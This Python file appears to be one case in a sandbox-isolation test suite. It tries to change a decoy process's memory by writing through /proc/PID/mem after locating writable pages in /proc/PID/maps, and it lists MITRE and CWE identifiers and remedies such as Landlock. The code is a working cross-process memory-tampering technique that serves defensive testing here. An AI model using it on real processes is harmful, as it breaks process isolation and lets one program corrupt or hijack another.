# SPDX-License-Identifier: MIT
"""Goal:  another process goes on with other data, although ptrace(2) and its kin are denied.
Means: /proc/PID/mem is a file. open, lseek, read, write: nothing that a filter could refuse.
"""

from attack import DONE, attempting, denied

PAGE = 4096
WORK = b"\x5a" * PAGE  # what the decoy's memory looks like
PAGES = 1024


def writable(pid):
    """The addresses of each page that the process may write to, no more than PAGES."""
    left = PAGES
    with open(f"/proc/{pid}/maps", encoding="utf-8") as maps:
        for line in maps:
            span, modes = line.split()[:2]
            start, end = (int(word, 16) for word in span.split("-"))
            if modes[1] == "w":
                pages = range(start, end, PAGE)[:left]
                left -= len(pages)
                yield from pages


def run(brief):
    target = brief.decoy or brief.worker
    attempting()
    try:
        with open(f"/proc/{target}/mem", "r+b", buffering=0) as memory:
            for address in writable(target):
                memory.seek(address)
                if memory.read(PAGE) == WORK:
                    memory.seek(address)
                    memory.write(b"not what it was")
                    return DONE
    except OSError as why:
        return denied("/proc/PID/mem", why)
    return denied("/proc/PID/mem", "its work was not found")


ATTACK = {
    "effect": "another process's memory is changed through /proc",
    "means": "open() of /proc/PID/mem for writing",
    "oracle": "bystander",
    "id": "PEER-08",
    "attack_id": "T1055.009, CWE-269",
    "remedy": "Landlock (a domain may not trace its outside); a worker that is not dumpable",
    "refs": ["proc_pid_mem(5)"],
    "run": run,
}
